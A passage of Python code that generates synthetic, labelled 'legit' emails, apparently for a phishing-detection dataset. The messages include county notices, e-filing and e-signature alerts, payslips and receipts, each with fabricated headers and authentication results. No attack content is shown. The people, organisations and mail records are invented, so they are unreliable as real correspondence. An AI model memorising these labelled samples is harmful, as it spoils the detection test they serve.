    u1 = lnks("https://www.co.kessler.tx.us/oem/avisos-de-agua", bul, 1, stem)
    u2 = lnks("https://www.tceq.texas.gov/drinkingwater/boil-water-notices", bul, 2, stem)
    html = f"""<html><body style="margin:0;background:#f0f0f0">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif">
<tr><td style="background:#5a1e1e;color:#fff;padding:16px 22px;font-size:20px">Condado de Kessler &#8211; Manejo de Emergencias</td></tr>
<tr><td style="padding:20px 22px;font-size:15px;color:#222;line-height:1.5">
<p><b>Se levanta el aviso de hervir el agua &#8211; Sistema de Agua Rancho Vista</b></p>
<p>El 14 de julio de 2025 la Comisión de Calidad Ambiental de Texas (TCEQ) confirmó que el agua del Sistema de Agua
Rancho Vista cumple con los requisitos de calidad. Ya no es necesario hervir el agua antes de tomarla o cocinar.</p>
<p>Recomendamos dejar correr el agua fría de cada llave durante 2 minutos y desechar el hielo hecho durante el aviso.</p>
<p>Más información: <a href="{u1}">Avisos de agua del Condado de Kessler</a> &#183; <a href="{u2}">TCEQ</a></p>
<p style="font-size:12px;color:#666">Este mensaje fue enviado a {rcpt} mediante GovDelivery en nombre del Condado de Kessler, Texas.
<a href="https://public.govdelivery.com/accounts/TXKESSLER/subscriber/edit?preferences=true#tab1">Administrar suscripciones</a></p>
</td></tr></table></body></html>
"""
    mf = f"bounce-{num(stem, 9)}-{num(stem + 'b', 8)}@public.govdelivery.com"
    auth = Auth("209.166.169.71", "mail71.govdelivery.com", mf, "pass", [("govdelivery.com", "gd2", "pass")], "pass",
                "none", "public.govdelivery.com", "mail71.govdelivery.com")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="Condado de Kessler <txkessler@public.govdelivery.com>",
                subject="Se levanta el aviso de hervir el agua – Sistema de Agua Rancho Vista",
                date="2025-07-14 16:45:12 -0500", msgid=f"<{bul}.{num(stem + 'mid', 7)}@public.govdelivery.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 8)}_{num(stem + 'p', 9)}.{num(stem + 'q', 13)}"), auth=auth,
                dkim=[("govdelivery.com", "gd2")],
                extra=["x-accountcode: TXKESSLER", f"X-Bulletin-Id: {bul}", "Precedence: bulk",
                       f"List-Unsubscribe: <https://public.govdelivery.com/accounts/TXKESSLER/subscriber/one_click_unsubscribe?verification={aln(stem + 'v', 48)}&destination={rcpt}>"])
    add(stem, "legit", "bulk", "Genuine Spanish-language county emergency bulletin via GovDelivery (boil-water notice "
        "lifted) with lnks.gd tracked links", raw)


def l08_efile_accepted() -> None:
    stem = "b36-legit-efiletexas-filing-accepted"
    rcpt = "darla.hutchins@co.kessler.tx.us"
    plain = """Filing Accepted

Envelope Number: 98240155
Case Number: 25-CV-0711
Case Style: Brazos Valley Holdings, LLC v. Kessler County, Texas

The filing below has been reviewed and accepted for filing.

Filing Details
Court: Kessler County - 216th District Court
Date/Time Submitted: 8/12/2025 3:41 PM CST
Date/Time Accepted: 8/13/2025 9:02 AM CST
Filing Type: EFileAndServe
Filing Description: Defendant Kessler County's Original Answer and Plea to the Jurisdiction
Filed By: Darla Hutchins
Filing Attorney: Mark T. Abernathy

Fee Details
Your account is never charged until your filing is accepted. Governmental entity - no fees assessed.

Document Details
Served Document: Download Document
This link is active for 30 days.

Please do not reply to this email. For questions about your filing, contact the Kessler County District Clerk.
Log in to https://efiletexas.gov to view your filing history.
"""
    link = f"https://kessler-tx.efiletexas.gov/ViewDocuments.aspx?FID={guid(stem + 'fid')}"
    html = ("<html><body style=\"font-family:Arial,sans-serif;font-size:13px\"><h3>Filing Accepted</h3>"
            + "".join(f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n")[1:])
            .replace("Served Document: Download Document", f'Served Document: <a href="{link}">Download Document</a>')
            + "</body></html>\n")
    mf = f"010001{hx(stem, 10)}-{guid(stem)}-000000@mail.efiletexas.gov"
    auth = Auth("54.240.10.205", "a10-205.smtp-out.amazonses.com", mf, "pass",
                [("efiletexas.gov", "tyl2021", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
                "pass", "quarantine", "efiletexas.gov")
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="no-reply@efiletexas.gov",
                subject="Filing Accepted for Case: 25-CV-0711; Brazos Valley Holdings, LLC v. Kessler County, Texas; Envelope Number: 98240155",
                date="2025-08-13 09:02:44 -0500", msgid=f"<010001{hx(stem, 10)}-{guid(stem)}-000000@email.amazonses.com>",
                body=alt(plain.replace("Download Document", f"Download Document <{link}>"), html, f"--=_{hx(stem, 28)}"),
                auth=auth, dkim=[("efiletexas.gov", "tyl2021"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])
    add(stem, "legit", "bulk", "Genuine eFileTexas 'filing accepted' notice for the county's answer in a civil case "
        "(efiletexas.gov DKIM via SES) with a document link on the county's efiletexas.gov subdomain", raw)


def l09_jury_reminder() -> None:
    stem = "b36-legit-county-jury-service-reminder"
    rcpt = "jmorales1987@gmail.com"
    plain = """KESSLER COUNTY DISTRICT CLERK - JURY SERVICES

Juror: JOSE MORALES
Juror Number: 2025-0331-4417
Report date: Monday, March 31, 2025 at 8:00 AM
Location: Kessler County Courthouse, Central Jury Room (1st floor), 100 E. Houston St.

This is a courtesy reminder of your upcoming jury service. If you have already completed your juror questionnaire
online, no further action is needed.

The night before your reporting date, check whether your panel is still needed at
https://www.co.kessler.tx.us/jury or call the juror information line at (830) 262-1140.

Exemptions and postponements must be requested through the online portal or in writing before your reporting date.

IMPORTANT: The District Clerk's office will never call, text or email you to demand payment of a fine or ask for
a gift card, bond or wire transfer for missing jury duty. If you receive such a request, do not pay - call our office
at the number above.

Kessler County District Clerk
"""
    html = ("<html><body style=\"font-family:Georgia,serif;font-size:14px\">" +
            "".join(f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n"))
            .replace("https://www.co.kessler.tx.us/jury", '<a href="https://www.co.kessler.tx.us/jury">https://www.co.kessler.tx.us/jury</a>')
            + "</body></html>\n")
    auth = Auth("148.163.154.203", "mx0b-00469f01.pphosted.com", "juryservices@co.kessler.tx.us", "pass",
                [("co.kessler.tx.us", "pps1", "pass")], "pass", "quarantine", "co.kessler.tx.us")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="Kessler County Jury Services <juryservices@co.kessler.tx.us>",
                subject="Jury Service Reminder - Report Monday, March 31, 2025 - Juror 2025-0331-4417",
                date="2025-03-27 14:00:07 -0500", msgid=f"<{hx(stem, 16)}.{num(stem, 6)}.JuryPlus@co.kessler.tx.us>",
                body=alt(plain, html, f"=_JP_{hx(stem + 'b', 24)}"), auth=auth, dkim=[("co.kessler.tx.us", "pps1")],
                sender_hops=["Received: from KCJURY01.kessler.local (10.40.30.18) by KCEXMB02.kessler.local (10.40.12.22)\n"
                             "\twith Microsoft SMTP Server id 15.2.1544.14"])
    add(stem, "legit", "bulk", "Genuine county jury-service reminder from the county's own domain (passes DMARC), no "
        "payment, warns the office never demands fines by phone or email", raw)


def l10_docusign_city_legal() -> None:
    stem = "b36-legit-docusign-city-law-dept-psa"
    rcpt = "jhartwell@hartwelleng.com"
    url = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={guid(stem + 'a')}&etti=24&acct={guid(stem + 'acct')}"
           f"&er={guid(stem + 'er')}")
    msg = ("Jim, attached for signature is the Professional Services Agreement for the Waterline Replacement Phase 2 "
           "design, as authorized by Council Ordinance 2025-31. Please sign and add your certificate of insurance on the "
           "last page. Thank you, Karen")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:2%;background:#eaeaea"><table width="100%" cellpadding="0" cellspacing="0" style="max-width:640px;background:#ffffff;margin:auto;font-family:Helvetica,Arial,Sans Serif">
<tr><td style="padding:10px 24px"><img src="https://na3.docusign.net/Member/Images/email/docusign-logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table width="100%" style="background:#1e4ca1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 36px 36px 36px;text-align:center;font-size:16px">
City of Harlan Springs - Law Department sent you a document to review and sign.<br><br>
<a href="{url}" style="background:#ffc423;color:#333;font-size:15px;font-weight:bold;padding:12px 24px;text-decoration:none;display:inline-block">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333"><b>Karen Liu</b><br>
<span style="color:#666">kliu@harlanspringsoh.gov</span><br><br>{msg}</td></tr>
<tr><td style="padding:30px 24px 45px 24px;background:#eaeaea;font-size:11px;color:#666">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit docusign.com, click 'Access Documents', and enter the security code:<br>{hx(stem + 'sc', 32).upper()}3<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
This message was sent to you by Karen Liu who is using the Docusign Electronic Signature Service.</td></tr>
</table></body></html>
"""
    plain = (f"City of Harlan Springs - Law Department sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\n"
             f"Karen Liu\nkliu@harlanspringsoh.gov\n\n{msg}\n\nDo Not Share This Email\n")
    auth = Auth("64.207.219.75", "mailout-na3.docusign.net", "dse_NA3@docusign.net", "pass",
                [("docusign.net", "mail", "pass")], "pass", "reject", "docusign.net")
    raw = build(stem=stem, profile="eop:vendor_us", rcpt=rcpt,
                frm="City of Harlan Springs - Law Department via Docusign <dse_NA3@docusign.net>",
                subject="Complete with Docusign: PSA - Hartwell Engineering - Waterline Replacement Ph 2 Design",
                date="2025-07-30 13:48:20 -0700", msgid=f"<{hx(stem + 'ds', 32)}@docusign.net>",
                body=alt(plain, html, f"--boundary_0_{guid(stem + 'b')}"), auth=auth, dkim=[("docusign.net", "mail")],
                reply_to="Karen Liu <kliu@harlanspringsoh.gov>",
                extra=[f"X-DocuSign-EnvelopeID: {guid(stem + 'env')}", "X-API-Host: na3.docusign.net"])
    add(stem, "legit", "bulk", "Genuine DocuSign envelope from the city's Law Department to its engineering consultant, "
        "reply-to the city attorney's own address, about a contract the council authorised", raw)


def l11_internal_budget() -> None:
    stem = "b36-legit-internal-budget-template-xlsx"
    rcpt = "rostrowski@harlanspringsoh.gov"
    sheet = xlsx([["Department", "Line item", "FY2025 Budget", "FY2026 Request", "Justification"],
                  ["", "Personnel", "", "", ""], ["", "Operating supplies", "", "", ""],
                  ["", "Contractual services", "", "", ""], ["", "Capital outlay", "", "", ""]],
                 "FY2026 Budget Request Template", "Denise Kowalczyk")
    plain = """Department Heads,

Attached is the FY2026 budget request template. Please return your completed requests to me by Friday, August 15.
Capital requests over $25,000 also need a CIP project sheet (same as last year - they're in the Finance folder on
the S: drive).

Reminder that the Mayor has asked us to hold operating lines flat except for contractual increases. If you expect
a cost increase on a service contract, note the contract and vendor in the justification column.

I'll schedule 30-minute review meetings with each department for the week of August 25.

Thanks,
Denise

Denise Kowalczyk, CPFO
Finance Director
City of Harlan Springs
(419) 663-4100 ext. 201
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                            "FY2026 Budget Request Template.xlsx", sheet))
    box = f"SA1PR09MB{num(stem + 'ob', 4)}.namprd09.prod.outlook.com"
    top = ["Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none"
           " header.from=harlanspringsoh.gov;",
           "X-MS-Exchange-Organization-AuthMechanism: 04",
           f"Received: from {box} ([fe80::{hx(stem, 4)}:{hx(stem + 'x', 4)}:{hx(stem + 'y', 4)}:{hx(stem + 'z', 4)}]) by\n {box}"
           f" ([fe80::{hx(stem, 4)}:{hx(stem + 'x', 4)}:{hx(stem + 'y', 4)}:{hx(stem + 'z', 4)}%5]) with mapi id"
           f" 15.20.8857.015;\n {utc(when('2025-07-21 08:30:11 -0400'))}"]
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Denise Kowalczyk <dkowalczyk@harlanspringsoh.gov>",
                to="Department Heads <deptheads@harlanspringsoh.gov>", subject="FY2026 budget requests due 8/15 - template attached",
                date="2025-07-21 08:30:11 -0400", msgid=exchange_msgid(stem, "harlan"), body=body, auth=None,
                internal=True, top=top, extra=outlook_extra(stem, "FY2026 budget requests due 8/15 - template attached", True))
    add(stem, "legit", "clean", "Internal mail from the city finance director to department heads with a budget "
        "spreadsheet template (intra-tenant, no external hops)", raw)


def l12_district_thread() -> None:
    stem = "b36-legit-district-staff-thread-sheets-link"
    rcpt = "lferreira@brookvaleusd.org"
    sheet = f"https://docs.google.com/spreadsheets/d/1{aln(stem + 's', 43)}/edit?usp=sharing"
    prev = gmail_msgid(stem + "prev")
    plain = f"""Luis,

That works. Sierra Crest can start the bus yard paving on June 16 once the last summer school route is moved to the
Jefferson lot. I put the phasing in the shared sheet - can you add the dates your mechanics need the wash bay?

{sheet}

Rachel

On Tue, Jun 3, 2025 at 9:14 AM Luis Ferreira <lferreira@brookvaleusd.org> wrote:
> Rachel, we can park the summer fleet at Jefferson from 6/13 through 7/25. Just need the fuel island open
> by the 28th for the first-day-of-school routes. Can your contractor work around that?
>
> Luis Ferreira
> Transportation Supervisor
> Brookvale Unified School District
"""
    html = gmail_html(
        "<div>Luis,</div><div><br></div><div>That works. Sierra Crest can start the bus yard paving on June 16 once the "
        "last summer school route is moved to the Jefferson lot. I put the phasing in the shared sheet - can you add the "
        f'dates your mechanics need the wash bay?</div><div><br></div><div><a href="{sheet}">{sheet}</a></div><div><br>'
        "</div><div>Rachel</div></div><br><div class=\"gmail_quote gmail_quote_container\"><div dir=\"ltr\" "
        "class=\"gmail_attr\">On Tue, Jun 3, 2025 at 9:14 AM Luis Ferreira &lt;<a href=\"mailto:lferreira@brookvaleusd.org\">"
        "lferreira@brookvaleusd.org</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px "
        "0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\"><div dir=\"ltr\">Rachel, we can park the summer "
        "fleet at Jefferson from 6/13 through 7/25. Just need the fuel island open by the 28th for the first-day-of-school "
        "routes. Can your contractor work around that?<br><br>Luis Ferreira<br>Transportation Supervisor<br>Brookvale "
        "Unified School District</div></blockquote>")
    ip, helo = gmail_out(stem)
    d = when("2025-06-03 10:02:47 -0700")
    auth = Auth(ip, helo, "rkim@brookvaleusd.org", "pass", [("brookvaleusd.org", "google", "pass")], "pass",
                "quarantine", "brookvaleusd.org")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Rachel Kim <rkim@brookvaleusd.org>",
                to="Luis Ferreira <lferreira@brookvaleusd.org>", subject="Re: Bus yard paving - summer schedule",
                date="2025-06-03 10:02:47 -0700", msgid=gmail_msgid(stem),
                body=alt(plain, html, f"000000000000{hx(stem + 'a', 16)}"), auth=auth,
                dkim=[("brookvaleusd.org", "google")], top=gmail_extra(stem, d),
                extra=[f"In-Reply-To: {prev}", f"References: {prev}"])
    add(stem, "legit", "clean", "Colleagues at the school district replying in a thread about summer paving, with a "
        "shared Google Sheets link on the district's own Workspace", raw)


def l13_workday_payslip() -> None:
    stem = "b36-legit-workday-payslip-available"
    rcpt = "emily.sandoval@state.co.us"
    url = "https://wd5.myworkday.com/stateofcolorado/d/task/2997$2151.htmld"
    plain = (f"Emily Sandoval,\n\nYour Pay Slip for the pay period ending 01/31/2025 (pay date 01/31/2025) is now "
             f"available in Workday.\n\nView your pay slip: {url}\n\nThis is an automated notification from Workday. "
             "Please do not reply.\n")
    html = (f"<html><body style=\"font-family:Arial;font-size:13px\"><p>Emily Sandoval,</p><p>Your Pay Slip for the pay "
            f"period ending 01/31/2025 (pay date 01/31/2025) is now available in Workday.</p><p><a href=\"{url}\">View your "
            "pay slip</a></p><p style=\"color:#777\">This is an automated notification from Workday. Please do not "
            "reply.</p></body></html>\n")
    mf = f"wd5-bounces@myworkday.com"
    auth = Auth("198.49.88.21", "wd5-mta21.myworkday.com", mf, "pass", [("myworkday.com", "wd-2023", "pass")], "pass",
                "reject", "myworkday.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="State of Colorado Workday <stateofcolorado@myworkday.com>",
                subject="Pay Slip Available", date="2025-01-30 06:15:22 -0800",
                msgid=f"<{num(stem, 13)}.{num(stem + 'a', 6)}.JavaMail.wdprod@wd5-prod-notif{num(stem + 'n', 2)}>",
                body=alt(plain, html, f"----=_Part_{num(stem, 6)}_{num(stem + 'b', 9)}.{num(stem + 'c', 13)}"), auth=auth,
                dkim=[("myworkday.com", "wd-2023")])
    add(stem, "legit", "bulk", "Genuine Workday pay-slip notification from the tenant's myworkday.com address with a "
        "link into the wd5.myworkday.com tenant - the real thing the direct-deposit lure copies", raw)


def l14_myview_payslip() -> None:
    stem = "b36-legit-council-myview-payslip"
    rcpt = "daniel.okoro@ashmere.gov.uk"
    plain = """Dear Daniel Okoro,

Your payslip for October 2025 is now available to view in MyView.

Please log in to MyView from the staff intranet or at https://ashmere.myview.zellis.com to view or download it.
Your payslip will show any arrears arising from the 2025/26 pay award once it has been processed.

If you have any questions about your pay, please raise a query with HR & Payroll Services through the MyView Help
Desk tile. Payroll will never ask you to confirm bank details by email.

This is an automated message - please do not reply.

HR & Payroll Services
Ashmere Borough Council
"""
    mf = "myview-noreply@ashmere.gov.uk"
    auth = Auth("62.252.149.18", "smtp-out2.zellis.com", mf, "pass", [("ashmere.gov.uk", "zellis1", "pass")], "pass",
                "reject", "ashmere.gov.uk")
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="MyView Payroll <myview-noreply@ashmere.gov.uk>",
                subject="Your payslip for October 2025 is now available", date="2025-10-24 06:00:18 +0100",
                msgid=f"<{num(stem, 10)}.{num(stem + 'a', 5)}.{num(stem + 'b', 13)}@myview-app02>",
                body=text(plain, "plain", "7bit", "us-ascii"), auth=auth, dkim=[("ashmere.gov.uk", "zellis1")])
    add(stem, "legit", "bulk", "Genuine Zellis MyView payslip notice from the council's own domain via the payroll "
        "provider (aligned DKIM), no link beyond the known MyView host", raw)


def l15_paymentus_receipt() -> None:
    stem = "b36-legit-water-paymentus-receipt"
    rcpt = "kmcgraw.home@gmail.com"
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222;background:#f4f4f4">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:18px 24px;font-size:18px;color:#004b87;border-bottom:3px solid #004b87">Marsh Creek Water Authority</td></tr>
<tr><td style="padding:20px 24px">
<p>Thank you for your payment. Please keep this confirmation for your records.</p>
<table cellpadding="5" style="font-size:14px">
<tr><td>Confirmation number</td><td><b>PMT-3F8K2Q7Z</b></td></tr>
<tr><td>Account number</td><td>*****813-02</td></tr>
<tr><td>Payment date</td><td>11/18/2025 07:42 PM ET</td></tr>
<tr><td>Payment amount</td><td>$94.16</td></tr>
<tr><td>Convenience fee</td><td>$0.00</td></tr>
<tr><td>Payment method</td><td>VISA ending in 2207</td></tr></table>
<p>It may take up to 2 business days for this payment to appear on your account.</p>
<p style="font-size:12px;color:#777">This email was sent by Paymentus on behalf of Marsh Creek Water Authority.
Please do not reply. For billing questions contact Customer Service at (717) 409-1100, Monday-Friday, 8 AM-4:30 PM.</p>
</td></tr></table></body></html>
"""
    mf = f"bounce-{hx(stem, 12)}@paymentus.com"
    auth = Auth("64.124.38.56", "smtp56.paymentus.com", mf, "pass", [("paymentus.com", "pmt2022", "pass")], "pass",
                "reject", "paymentus.com")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="Marsh Creek Water Authority <noreply@paymentus.com>",
                subject="Payment Confirmation - Marsh Creek Water Authority", date="2025-11-18 19:42:51 -0500",
                msgid=f"<{num(stem, 12)}.{num(stem + 'a', 4)}.{num(stem + 'b', 13)}@paymentus.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 6)}_{num(stem + 'c', 9)}.{num(stem + 'd', 13)}"), auth=auth,
                dkim=[("paymentus.com", "pmt2022")])
    add(stem, "legit", "bulk", "Genuine Paymentus payment confirmation for a water bill (paymentus.com passes), masked "
        "account and card, no links to act on", raw)


def l16_tax_receipt() -> None:
    stem = "b36-legit-county-property-tax-receipt"
    rcpt = "dlangston@yahoo.com"
    plain = """Kessler County Tax Assessor-Collector - Payment Receipt

Thank you for your payment. This is your receipt.

Confirmation #: 25-8841273
Date: 01/27/2025 08:14 PM CST
Account: 00-4471-0219-000
Owner: LANGSTON DAVID R & KAREN L
Description: 2024 Property Tax
Tax amount: $3,182.44
Service fee: $68.42
Total charged: $3,250.86
Payment method: eCheck ending 0553

The service fee is charged by Certified Payments, not by Kessler County. Please allow 3-5 business days for the
payment to post to your tax account.

Questions about your tax account: Kessler County Tax Office, (830) 262-1300.
Questions about this transaction: Certified Payments customer service, 1-888-891-8234.
"""
    auth = Auth("208.78.43.21", "mail2.certifiedpayments.net", "receipts@certifiedpayments.net", "pass",
                [("certifiedpayments.net", "cp1", "pass")], "pass", "quarantine", "certifiedpayments.net")
    raw = build(stem=stem, profile="yahoo", rcpt=rcpt, frm="Certified Payments <receipts@certifiedpayments.net>",
                subject="Payment Receipt - Kessler County Tax Assessor-Collector - 25-8841273",
                date="2025-01-27 20:14:39 -0600", msgid=f"<{guid(stem)}@certifiedpayments.net>",
                body=text(plain, "plain", "7bit", "us-ascii"), auth=auth, dkim=[("certifiedpayments.net", "cp1")])
    add(stem, "legit", "bulk", "Genuine property-tax payment receipt from the county's payment processor, same "
        "resident and account as the fake delinquency notice", raw)


def l17_govuk_pay_receipt() -> None:
    stem = "b36-legit-govuk-pay-pcn-receipt"
    rcpt = "s.hollingworth@outlook.com"
    plain = """Payment confirmation

Thank you for your payment.

Payment for: Penalty Charge Notice AS48219736
Reference: AS48219736
Payment reference: 4q8jv2k7m1s9dcr3a0tn
Amount: £35.00
Date: 11 August 2025

Ashmere Borough Council Parking Services

This is an automated email from GOV.UK Pay on behalf of Ashmere Borough Council. Do not reply to this email.
"""
    html = ("<html><body style=\"font-family:Helvetica,Arial,sans-serif;font-size:19px;color:#0b0c0c\">"
            "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td style=\"background:#0b0c0c;padding:10px\">"
            "<span style=\"color:#fff;font-weight:700;font-size:28px\">GOV.UK</span></td></tr></table>"
            "<div style=\"max-width:580px;padding:10px\">"
            + "".join(f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n"))
            + "</div></body></html>\n")
    mf = f"010b{hx(stem, 12)}-{guid(stem)}-000000@notifications.service.gov.uk"
    auth = Auth("54.240.3.18", "b218-18.smtp-out.eu-west-2.amazonses.com", mf, "pass",
                [("notifications.service.gov.uk", "jlgkh3bnvdv4qayokk7heiy3vpkxqtx3", "pass"),
                 ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")], "pass", "reject",
                "notifications.service.gov.uk")
    raw = build(stem=stem, profile="eop:outlook", rcpt=rcpt,
                frm="Ashmere Borough Council <ashmere.borough.council@notifications.service.gov.uk>",
                subject="Your payment confirmation", date="2025-08-11 12:04:31 +0100",
                msgid=f"<010b{hx(stem, 12)}-{guid(stem)}-000000@eu-west-2.amazonses.com>",
                body=alt(plain, html, f"==============={num(stem, 19)}=="), auth=auth,
                dkim=[("notifications.service.gov.uk", "jlgkh3bnvdv4qayokk7heiy3vpkxqtx3"),
                      ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv")])
    add(stem, "legit", "bulk", "Genuine GOV.UK Pay confirmation (GOV.UK Notify via SES, DMARC reject passes) for the "
        "same PCN reference the fake penalty notice uses", raw)


def l18_sspr_notice() -> None:
    stem = "b36-legit-m365-password-reset-notice"
    rcpt = "tgreene@harlanspringsoh.gov"
    html = """<html><body style="font-family:'Segoe UI',Tahoma,sans-serif;font-size:14px;color:#333">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 0;font-size:20px">City of Harlan Springs</td></tr>
<tr><td style="padding:10px 0"><b>Your password has been reset</b></td></tr>
<tr><td style="padding:10px 0">This is to notify you that the password for your City of Harlan Springs account
<b>tgreene@harlanspringsoh.gov</b> was reset on 10/2/2025 2:17:40 PM (UTC).</td></tr>
<tr><td style="padding:10px 0">If you did this, you don't need to do anything else.</td></tr>
<tr><td style="padding:10px 0">If you didn't reset your password, contact your administrator immediately.</td></tr>
<tr><td style="padding:20px 0;font-size:12px;color:#777">Microsoft respects your privacy. To learn more, please read our
<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    ip, helo, rdns, hops = m365_out(stem, "NAM10-BN7", "namprd10.prod.outlook.com", "BN0PR10MB")
    auth = Auth(ip, helo, "msonlineservicesteam@microsoftonline.com", "pass",
                [("microsoftonline.com", "selector1", "pass")], "pass", "reject", "microsoftonline.com", rdns)
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="Microsoft on behalf of City of Harlan Springs <msonlineservicesteam@microsoftonline.com>",
                subject="City of Harlan Springs account password reset", date="2025-10-02 14:17:44 +0000",
                msgid=f"<{guid(stem)}@az.westus2.microsoft.com>", body=alt(None, html, f"--boundary_{num(stem, 3)}_{guid(stem + 'b')}"),
                auth=auth, dkim=[("microsoftonline.com", "selector1")])
    add(stem, "legit", "bulk", "Genuine Microsoft Entra self-service password reset notice from microsoftonline.com "
        "(passes), informational only with no sign-in link", raw)


def l19_sharepoint_genuine() -> None:
    stem = "b36-legit-sharepoint-share-neighbour-village"
    rcpt = "lperrault@harlanspringsoh.gov"
    url = (f"https://oakfieldoh.sharepoint.com/:f:/s/JEDDBoard/E{aln(stem + 'sp', 45)}?e={aln(stem + 'e', 6)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table cellpadding="0" cellspacing="0" style="max-width:600px;font-family:'Segoe UI',Helvetica,Arial,sans-serif;color:#242424">
<tr><td style="padding:20px 24px 10px 24px;font-size:16px">Ellen Marsh shared a folder with you</td></tr>
<tr><td style="padding:0 24px 10px 24px;font-size:14px">Linda - packet for the 9/24 JEDD board meeting. Item 4 is the revised
income tax sharing formula our law director mentioned. Hard copies will be at the meeting.</td></tr>
<tr><td style="padding:10px 24px"><table style="border:1px solid #e0e0e0;border-radius:4px;width:100%"><tr>
<td style="padding:14px;font-size:14px">&#128193; JEDD Board - Meeting Packet Sept 2025</td></tr></table></td></tr>
<tr><td style="padding:10px 24px 24px 24px"><a href="{url}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#616161">This link only works for the direct recipients of this message.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>Privacy Statement</td></tr></table></body></html>
"""
    plain = (f"Ellen Marsh shared a folder with you\n\nLinda - packet for the 9/24 JEDD board meeting. Item 4 is the revised "
             "income tax sharing formula our law director mentioned. Hard copies will be at the meeting.\n\n"
             f"JEDD Board - Meeting Packet Sept 2025\n{url}\n\nThis link only works for the direct recipients of this message.\n")
    ip, helo, rdns, hops = m365_out(stem, "GCC02-BL0", "namprd09.prod.outlook.com", "BL0PR09MB")
    auth = Auth(ip, helo, "no-reply@sharepointonline.com", "pass", [("sharepointonline.com", "selector1", "pass")],
                "pass", "reject", "sharepointonline.com", rdns)
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Ellen Marsh <no-reply@sharepointonline.com>",
                subject="Ellen Marsh shared the folder \"JEDD Board - Meeting Packet Sept 2025\" with you",
                date="2025-09-17 18:22:09 +0000",
                msgid=f"<{guid(stem + 'sp')}@BL0PR09MB{num(stem, 4)}.namprd09.prod.outlook.com>",
                body=alt(plain, html, f"_{guid(stem + 'bd')}_"), auth=auth, dkim=[("sharepointonline.com", "selector1")],
                reply_to="Ellen Marsh <emarsh@oakfieldoh.gov>")
    add(stem, "legit", "clean", "Genuine SharePoint folder share from the neighbouring village's clerk to the city clerk "
        "for a joint board meeting, on the village's own SharePoint site", raw)


def l20_adobe_sign_grant() -> None:
    stem = "b36-legit-adobe-sign-state-grant-agreement"
    rcpt = "finance@pinehollowco.gov"
    url = f"https://secure.na2.adobesign.com/public/apiesign?pid=CBFCIBAA3AAABLblqZhB{aln(stem + 'pid', 90)}&client_id=CBJCHBCAABAA{aln(stem + 'cid', 24)}"
    html = f"""<html><body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:adobe-clean,Helvetica,Arial,sans-serif">
<tr><td style="padding:24px 32px"><img src="https://secure.na2.adobesign.com/images/email/acrobat-sign-logo.png" width="140" alt="Adobe Acrobat Sign"></td></tr>
<tr><td style="padding:0 32px;font-size:22px;color:#2c2c2c">Emily Sandoval requests your signature on<br><b>EIAF #10718 Grant Agreement - Town of Pine Hollow Lift Station Rehabilitation</b></td></tr>
<tr><td style="padding:24px 32px"><a href="{url}" style="background:#1473e6;color:#fff;padding:10px 24px;border-radius:16px;text-decoration:none;font-size:15px">Review and sign</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:14px;color:#4b4b4b"><b>Message from Emily Sandoval:</b><br>
